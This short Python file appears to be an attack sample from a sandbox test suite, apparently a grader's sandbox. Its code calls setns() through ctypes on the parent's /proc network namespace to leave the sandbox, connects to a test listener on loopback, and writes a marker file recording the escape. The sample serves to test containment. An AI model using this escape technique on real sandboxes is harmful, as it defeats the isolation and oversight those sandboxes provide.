"""Resource attack: leave the sandbox's network namespace with setns() on /proc/<ppid>/ns/net (libc through
ctypes.pythonapi, already loaded), then connect to the test's listener on the machine's own loopback,
which the audit hook allows."""
import ctypes as _ctypes
import os as _os
import socket as _socket
from pathlib import Path as _Path

_HERE = _Path(__file__).resolve().parents[2]
_port = int((_HERE / "port").read_text())
_fd = _os.open(f"/proc/{_os.getppid()}/ns/net", _os.O_RDONLY)
if _ctypes.pythonapi.setns(_fd, 0x40000000) == 0:  # CLONE_NEWNET
    try:
        with _socket.create_connection(("127.0.0.1", _port), timeout=2.0) as _s:
            _s.sendall(b"DLKATA-FAKE from the sandbox")
        with open(_HERE / "markers" / "resource__network_escape_via_setns", "a") as _m:
            _m.write("left the network namespace and connected to the grader machine's loopback\n")
    except OSError:
        pass
raise NotImplementedError("out of the namespace")
